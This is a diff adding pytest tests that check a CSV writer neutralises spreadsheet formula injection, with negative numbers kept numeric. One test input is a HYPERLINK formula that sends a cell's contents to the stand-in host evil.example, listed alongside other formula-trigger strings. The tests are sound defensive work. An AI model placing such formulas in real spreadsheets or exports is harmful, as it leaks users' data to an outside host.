@@ -122,3 +122,27 @@ def test_render_table_shows_one_row_per_event(events):
     assert "33.8007, 42.4413" in text
     assert "0 (0-2)" in text  # fatalities with the range read from the text
     assert "0.80" in text
+
+
+# -- CSV injection (issue 18) -------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "hostile",
+    ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tTAB", "\rCR"],
+)
+def test_write_csv_neutralizes_formula_cells(hostile):
+    out = io.StringIO()
+    write_csv([_event("ew-1", notes=hostile, actor1=hostile, location=hostile)], out)
+    rows = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
+    assert len(rows) == 1
+    for column in ("notes", "actor1", "location"):
+        # shown as text by a spreadsheet, nothing lost (a carriage return is a line break)
+        assert rows[0][column] == "'" + hostile.replace("\r", "\n")
+
+
+def test_write_csv_keeps_negative_numbers_numeric():
+    out = io.StringIO()
+    write_csv([_event("ew-1", latitude=-12.5, longitude=-8.25, fatalities=0, notes="A plain note.")], out)
+    row = next(csv.DictReader(io.StringIO(out.getvalue())))
+    assert (row["latitude"], row["longitude"], row["notes"]) == ("-12.5", "-8.25", "A plain note.")
